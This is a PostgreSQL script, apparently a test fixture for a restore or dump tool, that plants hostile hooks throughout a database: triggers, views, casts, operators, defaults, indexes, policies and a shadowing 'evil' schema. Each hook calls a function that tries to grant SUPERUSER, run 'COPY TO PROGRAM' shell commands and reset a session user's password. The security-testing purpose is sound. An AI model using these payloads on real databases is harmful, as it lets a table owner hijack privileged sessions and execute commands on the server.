-- What the owner of a database can arm: each piece of code tries to become a superuser and to run a program, and leaves a
-- comment that says whose session it ran in. Comments and not rows: a restore compares rows.
SET check_function_bodies = off;
SET search_path = public;
CREATE SCHEMA ran;
CREATE SCHEMA super;
CREATE FUNCTION attack(hook text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  BEGIN PERFORM pg_catalog.set_config('role', 'none', false); EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'ALTER ROLE api SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE $q$COPY (SELECT 1) TO PROGRAM 'id > /tmp/attacked'$q$; EXCEPTION WHEN OTHERS THEN NULL; END;
  IF session_user LIKE 'phiward%' THEN
    BEGIN EXECUTE 'ALTER ROLE CURRENT_USER PASSWORD ''known'''; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE 'ALTER ROLE CURRENT_USER SET search_path = evil, pg_catalog'; EXCEPTION WHEN OTHERS THEN NULL; END;
  END IF;
  BEGIN EXECUTE pg_catalog.format('COMMENT ON SCHEMA ran IS %L', session_user); EXCEPTION WHEN OTHERS THEN NULL; END;
  IF EXISTS (SELECT FROM pg_catalog.pg_roles WHERE rolname IN (session_user, current_user) AND rolsuper) THEN
    EXECUTE pg_catalog.format('COMMENT ON SCHEMA super IS %L', hook);
  END IF;
  RETURN true;
END $$;
CREATE SCHEMA evil;
CREATE FUNCTION tried(hook text, answer text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM public.attack(hook); RETURN answer; END $$;
-- search path: functions and operators of common names
CREATE FUNCTION evil.format(text, VARIADIC text[]) RETURNS text LANGUAGE sql AS $$ SELECT public.tried('search_path format', $1) $$;
CREATE FUNCTION evil.count(anyelement) RETURNS bigint LANGUAGE sql AS $$ SELECT CASE WHEN public.attack('search_path count') THEN 1::bigint END $$;
CREATE FUNCTION evil.eq(name, text) RETURNS boolean LANGUAGE sql AS $$ SELECT public.attack('operator') $$;
CREATE OPERATOR evil.= (LEFTARG = name, RIGHTARG = text, FUNCTION = evil.eq);
CREATE FUNCTION evil.cat(text, text) RETURNS text LANGUAGE sql AS $$ SELECT public.tried('operator ||', $1) $$;
CREATE OPERATOR evil.|| (LEFTARG = text, RIGHTARG = text, FUNCTION = evil.cat);
CREATE VIEW evil.pg_roles AS SELECT * FROM pg_catalog.pg_roles WHERE public.attack('view pg_roles');
CREATE VIEW evil.pg_class AS SELECT * FROM pg_catalog.pg_class WHERE public.attack('view pg_class');
-- a table with every hook
CREATE DOMAIN word AS text CHECK (public.tried('domain', VALUE) IS NOT NULL);
CREATE TYPE pair AS (a integer, b word);
CREATE FUNCTION public.keyed(text) RETURNS text LANGUAGE sql IMMUTABLE AS $$ SELECT public.tried('index', $1) $$;
CREATE FUNCTION public.made(text) RETURNS text LANGUAGE sql IMMUTABLE AS $$ SELECT public.tried('generated', $1) $$;
CREATE TABLE notes (id serial PRIMARY KEY, text text DEFAULT public.tried('default', 'none'),
  kind word, duo pair, made text GENERATED ALWAYS AS (public.made(text)) STORED,
  CONSTRAINT checked CHECK (public.tried('check', text) IS NOT NULL));
CREATE FUNCTION public.cast_notes(notes) RETURNS text LANGUAGE sql AS $$ SELECT public.tried('cast', 'x') $$;
CREATE CAST (notes AS text) WITH FUNCTION public.cast_notes(notes) AS IMPLICIT;
CREATE FUNCTION public.cast_pair(pair) RETURNS text LANGUAGE sql AS $$ SELECT public.tried('cast pair', 'x') $$;
CREATE CAST (pair AS text) WITH FUNCTION public.cast_pair(pair) AS IMPLICIT;
INSERT INTO notes (text, kind, duo) SELECT 'note ' || n, 'k', ROW(n, 'x')::pair FROM generate_series(1, 9) n;
CREATE INDEX by_key ON notes (public.keyed(text));
CREATE STATISTICS counted ON (public.keyed(text)) FROM notes;
-- The code above has left the role of the owner.
SET ROLE api;
CREATE TABLE children (note integer REFERENCES notes, text text);
INSERT INTO children SELECT id, 'c' FROM notes;
CREATE FUNCTION public.fire() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM public.attack('trigger'); RETURN NEW; END $$;
CREATE TRIGGER fires BEFORE INSERT OR UPDATE OR DELETE ON notes FOR EACH ROW EXECUTE FUNCTION public.fire();
CREATE TRIGGER fires_truncate BEFORE TRUNCATE ON notes EXECUTE FUNCTION public.fire();
CREATE VIEW shown AS SELECT public.attack('view'), id FROM notes;
CREATE MATERIALIZED VIEW kept AS SELECT public.attack('materialized view'), id FROM notes;
CREATE RULE ruled AS ON DELETE TO children DO ALSO SELECT public.attack('rule');
SET ROLE api;
-- rows that the owner hides from itself
CREATE TABLE hidden (id integer, text text);
INSERT INTO hidden SELECT n, 'hidden' FROM generate_series(1, 50) n;
ALTER TABLE hidden ENABLE ROW LEVEL SECURITY;
ALTER TABLE hidden FORCE ROW LEVEL SECURITY;
CREATE POLICY nobody ON hidden USING (public.attack('policy') AND false);
CREATE SCHEMA closed;
CREATE TABLE closed.box (id serial, text text);
INSERT INTO closed.box (text) VALUES ('box');
REVOKE ALL ON closed.box FROM api;
REVOKE ALL ON SEQUENCE closed.box_id_seq FROM api;
REVOKE ALL ON SCHEMA closed FROM api;
CREATE TABLE "with
a newline" (id integer, "col
umn" text);
INSERT INTO "with
a newline" VALUES (1, 'x');
CREATE TABLE parent (id integer);
CREATE TABLE child (extra text) INHERITS (parent);
ALTER TABLE parent ADD COLUMN late text;
INSERT INTO child VALUES (1, 'e', 'l');
CREATE UNLOGGED TABLE fast (id integer); INSERT INTO fast VALUES (1);
SELECT lo_from_bytea(4711, 'large');
REVOKE ALL ON LARGE OBJECT 4711 FROM api;
SET ROLE api;
GRANT SELECT ON notes TO PUBLIC;
GRANT SELECT (id) ON hidden TO api_e1;
ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC;
